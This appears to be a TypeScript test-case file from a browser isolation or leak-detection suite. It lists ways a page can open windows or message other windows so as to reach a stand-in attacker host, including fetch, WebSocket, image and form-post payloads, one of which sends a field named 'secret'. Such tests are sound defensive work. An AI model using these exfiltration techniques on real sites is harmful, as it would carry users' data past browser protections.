// Ways by windows and between them: popups of every kind, openers, channels, messages.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('window', 'win', { alone: true });
/** A page that reports that it came to be: for windows of the site itself. */
const arrived = (id: string): string =>
  `<script>const x = new XMLHttpRequest(); x.open('POST', 'http://site.localhost/report/${id}'); x.send('a window')</script>`;
const own: Partial<Way> = { routes: (a) => ({ pop: { body: arrived(a.id) } }) };

export const WINDOW: readonly Way[] = [
  way('open', 'window.open()', (a) => a.script(`open('${a.evil()}')`)),
  way('open-click', 'window.open() with a gesture', (a) => a.go(`open('${a.evil()}')`), { click: true }),
  way('open-own', 'window.open() of an own page', (a) => a.go(`open('${a.site('pop')}')`), {
    click: true,
    ...own,
  }),
  way(
    'open-noopener',
    'window.open() without an opener',
    (a) => a.go(`open('${a.evil()}', '_blank', 'noopener')`),
    { click: true },
  ),
  way(
    'open-popup',
    'window.open() with measures',
    (a) => a.go(`open('${a.evil()}', 'x', 'popup,width=100,height=100')`),
    { click: true },
  ),
  way(
    'open-named',
    'window.open() with a name, twice',
    (a) => a.go(`open('about:blank', '${a.id}'); open('${a.evil()}', '${a.id}')`),
    { click: true },
  ),
  way(
    'open-blank',
    'an empty window that is sent elsewhere',
    (a) => a.go(`const w = open('about:blank'); w.location = '${a.evil()}'`),
    { click: true },
  ),
  way(
    'open-blank-late',
    'an empty window that is sent elsewhere later',
    (a) => a.go(`const w = open(''); setTimeout(() => { w.location = '${a.evil()}' }, 50)`),
    { click: true },
  ),
  way(
    'open-write',
    'an empty window that is written into',
    (a) => a.go(`const w = open(''); w.document.write('<img src="${a.evil()}">'); w.document.close()`),
    { click: true },
  ),
  way(
    'open-fetch',
    'the fetch of an empty window',
    (a) => a.go(`const w = open(''); w.fetch('${a.evil()}', { mode: 'no-cors' })`),
    { click: true },
  ),
  way(
    'open-socket',
    'the WebSocket of an empty window',
    (a) => a.go(`const w = open(''); new w.WebSocket('${a.evil('x', 'ws')}')`),
    { click: true },
  ),
  way(
    'open-script',
    'a script in an empty window',
    (a) => a.go(`const w = open(''); w.eval("new Image().src = '${a.evil()}'")`),
    { click: true },
  ),
  way(
    'open-blob',
    'a window on a blob',
    (a) => a.go(`open(URL.createObjectURL(new Blob(['<img src="${a.evil()}">'], { type: 'text/html' })))`),
    { click: true },
  ),
  way(
    'open-javascript',
    'a window on a javascript: address',
    (a) => a.go(`open("javascript:fetch('${a.evil()}', { mode: 'no-cors' })")`),
    { click: true },
  ),
  way('open-redirect', 'a window on an own page that redirects', (a) => a.go(`open('${a.site('go')}')`), {
    click: true,
    routes: (a) => ({ go: { status: 302, headers: { location: a.evil() } } }),
  }),
  way(
    'open-many',
    'twenty windows at once',
    (a) => a.go(`for (let i = 0; i < 20; i += 1) open('${a.evil()}?' + i, '_blank')`),
    { click: true },
  ),
  way(
    'open-frame',
    'a window opened by a frame',
    (a) =>
      a.go(
        `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open('${a.evil()}')`,
      ),
    { click: true },
  ),
  way('open-of-popup', 'a window that opens a window', (a) => a.go(`open('${a.site('pop')}')`), {
    click: true,
    routes: (a) => ({ pop: { body: `<script>open('${a.evil()}')</script>` } }),
  }),
  way(
    'link-blank',
    'a link into a new window',
    (a) =>
      `<a id="a" target="_blank" href="${a.evil()}">x</a>${a.go(`document.getElementById('a').click()`)}`,
    { click: true },
  ),
  way(
    'link-opener',
    'a link into a new window that keeps its opener',
    (a) =>
      `<a id="a" target="_blank" rel="opener" href="${a.evil()}">x</a>${a.go(`document.getElementById('a').click()`)}`,
    { click: true },
  ),
  way(
    'link-name',
    'a link into a window by name',
    (a) =>
      `<a id="a" target="${a.id}" href="${a.evil()}">x</a>${a.go(`document.getElementById('a').click()`)}`,
    { click: true },
  ),
  way(
    'link-ctrl',
    'a link clicked with the control key',
    (a) =>
      `<a id="a" href="${a.evil()}">x</a>${a.go(`document.getElementById('a').dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true, cancelable: true, view: window }))`)}`,
    { click: true },
  ),
  way(
    'link-middle',
    'a link clicked with the middle button',
    (a) =>
      `<a id="a" href="${a.evil()}">x</a>${a.go(`document.getElementById('a').dispatchEvent(new MouseEvent('click', { button: 1, bubbles: true, cancelable: true, view: window }))`)}`,
    { click: true },
  ),
  way(
    'area-blank',
    'an image map into a new window',
    (a) =>
      `<map name="m"><area id="a" target="_blank" shape="default" href="${a.evil()}"></map><img usemap="#m" alt="">${a.go(`document.getElementById('a').click()`)}`,
    { click: true },
  ),
  way(
    'svg-blank',
    'a link in SVG into a new window',
    (a) =>
      `<svg><a id="a" target="_blank" href="${a.evil()}"><text y="20">x</text></a></svg>${a.go(`document.getElementById('a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`)}`,
    { click: true },
  ),
  way(
    'form-blank',
    'a form into a new window',
    (a) =>
      `<form id="f" method="post" target="_blank" action="${a.evil()}"><input name="secret" value="4711"></form>${a.go(`document.getElementById('f').submit()`)}`,
    { click: true },
  ),
  way(
    'form-target',
    'formtarget of a button',
    (a) =>
      `<form><button id="b" formtarget="_blank" formaction="${a.evil()}">x</button></form>${a.go(`document.getElementById('b').click()`)}`,
    { click: true },
  ),
  way(
    'base-blank',
    'base target into a new window',
    (a) =>
      `<base target="_blank"><a id="a" href="${a.evil()}">x</a>${a.go(`document.getElementById('a').click()`)}`,
    { click: true },
  ),
  way(
    'picture',
    'document picture-in-picture',
    (a) =>
      a.go(
        `const w = await documentPictureInPicture.requestWindow(); w.document.body.innerHTML = '<img src="${a.evil()}">'`,
      ),
    { click: true },
  ),
  way('opener', 'the opener is sent elsewhere by its popup', (a) => a.go(`open('${a.site('pop')}')`), {
    click: true,
    routes: (a) => ({ pop: { body: `<script>opener.location = '${a.evil()}'</script>` } }),
  }),
  way(
    'message',
    'a message between two windows',
    (a) => a.go(`addEventListener('message', (e) => got(e.data)); open('${a.site('pop')}')`),
    { click: true, routes: () => ({ pop: { body: `<script>opener.postMessage('hello', '*')</script>` } }) },
  ),
  way(
    'broadcast',
    'BroadcastChannel between two frames',
    (a) =>
      `<iframe src="${a.site('f')}"></iframe>${a.script(`const c = new BroadcastChannel('${a.id}'); c.onmessage = (e) => got(e.data); setInterval(() => c.postMessage('ask'), 50)`)}`,
    {
      routes: (a) => ({
        f: {
          body: `<script>const c = new BroadcastChannel('${a.id}'); c.onmessage = () => c.postMessage('answer')</script>`,
        },
      }),
    },
  ),
  way('broadcast-exists', 'BroadcastChannel exists', (a) =>
    a.script(`new BroadcastChannel('${a.id}'); got('exists')`),
  ),
  way(
    'storage-event',
    'a storage event between two frames',
    (a) =>
      `<iframe src="${a.site('f')}"></iframe>${a.script(`addEventListener('storage', (e) => got(e.newValue))`)}`,
    {
      routes: () => ({
        f: {
          body: `<script>setTimeout(() => localStorage.setItem('x', String(Math.random())), 100)</script>`,
        },
      }),
    },
  ),
];
